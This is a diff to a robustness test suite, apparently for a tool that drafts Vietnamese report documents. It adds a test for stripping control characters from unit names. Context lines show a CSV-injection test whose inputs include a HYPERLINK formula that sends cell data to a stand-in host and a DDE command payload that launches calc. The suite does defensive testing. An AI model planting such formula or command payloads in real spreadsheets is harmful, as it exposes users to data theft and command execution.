@@ -597,6 +597,26 @@ def case_per_unit_control_char(tmp: Path, scale: str) -> Case:
                 mem_mb=600, seconds=60, protected=[src], check=check)
 
 
+def case_draft_control_chars(tmp: Path, scale: str) -> Case:
+    """One draft (not per unit) of a report whose unit names hold control
+    characters: the draft is written, opens, and names the unit without them."""
+    src = _units_text(tmp, ["Sở Tư\x01 pháp\x0b", "Sở\x1b[31m Y tế"])
+    out = tmp / "du-thao-ky-tu.docx"
+
+    def check(o: Outcome) -> str | None:
+        import docx
+
+        try:
+            document = docx.Document(str(out))
+        except Exception as exc:  # Word would not open it either
+            return f"{out.name} does not open: {type(exc).__name__}"
+        names = {c.text for t in document.tables for r in t.rows for c in r.cells}
+        return None if {"Sở Tư pháp", "Sở[31m Y tế"} <= names else "unit names not in the appendix as cleaned"
+
+    return Case("draft_control_chars", ["draft", str(src), "-o", str(out)], {0}, "Đã soạn", mem_mb=600,
+                seconds=60, protected=[src], check=check)
+
+
 def case_csv_injection(tmp: Path, scale: str) -> Case:
     src = _units_text(tmp, ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)",
                             "-2+3", "\tSở Tư pháp"])
@@ -679,7 +699,7 @@ def case_umask(tmp: Path, scale: str) -> Case:
 
 def case_broken_doc(tmp: Path, scale: str) -> Case:
     sys.path.insert(0, str(ROOT / "tests"))
-    from test_parsers_bad_office import make_ole
+    from cfb import make_ole
 
     path = tmp / "hong.doc"
     path.write_bytes(make_ole({"WordDocument": b"\xec\xa5" + os.urandom(1500), "1Table": os.urandom(600)}))
@@ -691,7 +711,8 @@ ALL = [case_pdf_stream_bomb, case_pdf_huge_page, case_pdf_cyclic_pages, case_pdf
        case_text_26_digits, case_docx_flood, case_dev_zero, case_fifo, case_missing_db_history, case_export_onto_db,
        case_export_onto_db_symlink, case_corrupt_db, case_newer_schema, case_draft_onto_input,
        case_draft_pdf_onto_input, case_output_is_directory, case_outdir_is_file, case_per_unit_folded_names,
-       case_per_unit_control_char, case_csv_injection, case_export_xlsx_injection, case_import_folder_bad_file,
+       case_per_unit_control_char, case_draft_control_chars,
+       case_csv_injection, case_export_xlsx_injection, case_import_folder_bad_file,
        case_wrong_password, case_umask, case_broken_doc]
 
 
